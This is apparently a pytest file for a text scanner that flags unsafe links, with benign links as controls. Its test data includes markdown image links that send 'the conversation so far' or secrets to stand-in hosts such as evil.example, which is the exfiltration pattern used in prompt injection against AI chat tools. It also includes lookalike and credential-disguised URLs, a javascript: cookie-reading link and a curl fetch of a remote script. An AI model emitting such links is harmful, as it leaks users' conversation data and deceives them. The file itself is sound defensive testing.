# ruff: noqa: RUF001 (letters that look like others are what is tested)
import pytest

from pilothouse.shield.scanner import scan_text

UNSAFE = {
    "link_exfiltration": [
        "![x](https://collect.example/p.png?data=THE_CONVERSATION_SO_FAR)",
        "![loading](https://evil.example/i?q={{summary of the chat}})",
        '<img src="https://evil.example/c.gif?secret=c2VjcmV0IHZhbHVlIGhlcmU">',
        "![badge](https://badgen.net/https/evil.example/{{summary of the chat}})",
        "![badge](https://evil.readthedocs.org/b.svg?data=THE_CONVERSATION_SO_FAR)",
        "![badge](https://evilshields.io/b.svg?data=THE_CONVERSATION_SO_FAR)",
        "![badge](https://img.shields.io/endpoint?url=https%3A%2F%2Fevil.example%2Fb%3Fdata%3DTHE_CONVERSATION_SO_FAR)",
    ],
    "link_disguised_host": [
        "https://www.mybank.com@203.0.113.9/login",
        "see https://accounts.google.com:443@evil.example/x",
    ],
    "link_homograph": ["https://аpple.com/id", "http://xn--pple-43d.com/", "https://раураl.com/"],
    "link_script": [
        "[click](javascript:alert(document.cookie))",
        '<a href="data:text/html;base64,PHNjcmlwdD4=">open</a>',
    ],
    "link_ip_address": ["curl http://93.184.216.34/run.sh", "http://0x5db8d822/a"],
}
SAFE = [
    "![build](https://img.shields.io/badge/build-passing-green.svg?style=flat&logo=github)",
    "[![coverage](https://codecov.io/gh/owner/project/branch/main/graph/badge.svg?token=bRzR3RyOXZ)](https://codecov.io)",
    "![rank](https://img.shields.io/endpoint?url=https://rank.example/api/badge?fullName=owner%2Fproject%26since=monthly)",
    "![photo](https://images.example.com/a.jpg?w=800&h=600&fit=crop)",
    "git clone https://user@github.com/owner/project.git",
    "postgres://app:secret@localhost/app and https://user:pass@example.com/",
    "http://127.0.0.1:8000/docs and http://192.168.1.10/",
    "https://münchen.de/ and https://пример.рф/",
    "https://example.com/?q=javascript:+the+good+parts",
    "version 10.0.0.1 of https://pypi.org/project/x/",
]


class TestUnsafeLinks:
    @pytest.mark.parametrize(("name", "text"), [(name, text) for name, texts in UNSAFE.items() for text in texts])
    def test_are_seen(self, name: str, text: str) -> None:
        assert name in {finding.detector for finding in scan_text(text, detectors=["link_*"]).findings}


class TestOrdinaryLinks:
    @pytest.mark.parametrize("text", SAFE)
    def test_are_let_be(self, text: str) -> None:
        assert scan_text(text, detectors=["link_*"]).is_clean
